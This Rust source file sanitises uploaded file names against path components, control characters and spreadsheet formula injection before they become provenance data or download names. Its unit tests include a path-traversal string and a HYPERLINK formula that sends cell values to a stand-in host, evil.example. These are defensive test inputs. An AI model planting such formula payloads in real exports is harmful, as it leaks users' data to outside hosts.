//! File names as they enter ecociv (uploaded values CSV, Excel workbooks, evidence, plan files,
//! the import API's `file=`): the name becomes provenance (`provenance_detail`), which the public
//! CSV files and open data carry as their `source` column, and a download's file name, so it is
//! cleaned once, here, where it comes in.

/// The longest file name kept, in characters (the extension is kept when one is cut).
pub const MAX_CHARS: usize = 100;

/// A file name as ecociv keeps it: the last path component (`/` or `\`), without control
/// characters, without leading characters that start a spreadsheet formula (`=`, `+`, `-`, `@`)
/// or blanks, at most [`MAX_CHARS`] characters with its extension kept; `default` when nothing
/// is left.
pub(crate) fn clean(name: &str, default: &str) -> String {
    let base = name.rsplit(['/', '\\']).next().unwrap_or("");
    let cleaned: String = base.chars().filter(|c| !c.is_control()).collect();
    let cleaned = cleaned
        .trim_start_matches(|c: char| "=+-@".contains(c) || c.is_whitespace())
        .trim_end();
    if cleaned.is_empty() {
        return default.to_owned();
    }
    if cleaned.chars().count() <= MAX_CHARS {
        return cleaned.to_owned();
    }
    let ext = cleaned
        .rfind('.')
        .map(|i| &cleaned[i..])
        .filter(|e| e.chars().count() <= 10)
        .unwrap_or("");
    let stem: String = cleaned[..cleaned.len() - ext.len()]
        .chars()
        .take(MAX_CHARS - ext.chars().count())
        .collect();
    format!("{}{ext}", stem.trim_end())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_controls_and_formula_starts_are_dropped() {
        assert_eq!(clean("C:\\Users\\张三\\数据.csv", "x"), "数据.csv");
        assert_eq!(clean("../../etc/passwd", "x"), "passwd");
        assert_eq!(clean("a\u{0}b\r\n.csv", "x"), "ab.csv");
        assert_eq!(
            clean(
                "=HYPERLINK(\"http://evil.example/?d=\"&B2&C2,\"x\").csv",
                "x"
            ),
            "?d=\"&B2&C2,\"x\").csv"
        );
        assert_eq!(
            clean("=HYPERLINK(\"evil\"&B2,\"x\").csv", "x"),
            "HYPERLINK(\"evil\"&B2,\"x\").csv"
        );
        assert_eq!(clean(" \t=+-@ 数据.csv", "x"), "数据.csv");
        assert_eq!(clean("-", "上传文件.csv"), "上传文件.csv");
        assert_eq!(clean("", "上传文件.csv"), "上传文件.csv");
        assert_eq!(clean("a-b=c.csv", "x"), "a-b=c.csv");
    }

    #[test]
    fn long_names_are_cut_keeping_the_extension() {
        let long = format!("{}.xlsx", "很".repeat(300));
        let c = clean(&long, "x");
        assert_eq!(c.chars().count(), MAX_CHARS);
        assert!(c.ends_with("很.xlsx"), "{c}");
        let no_ext = "a".repeat(300);
        assert_eq!(clean(&no_ext, "x"), "a".repeat(MAX_CHARS));
    }
}
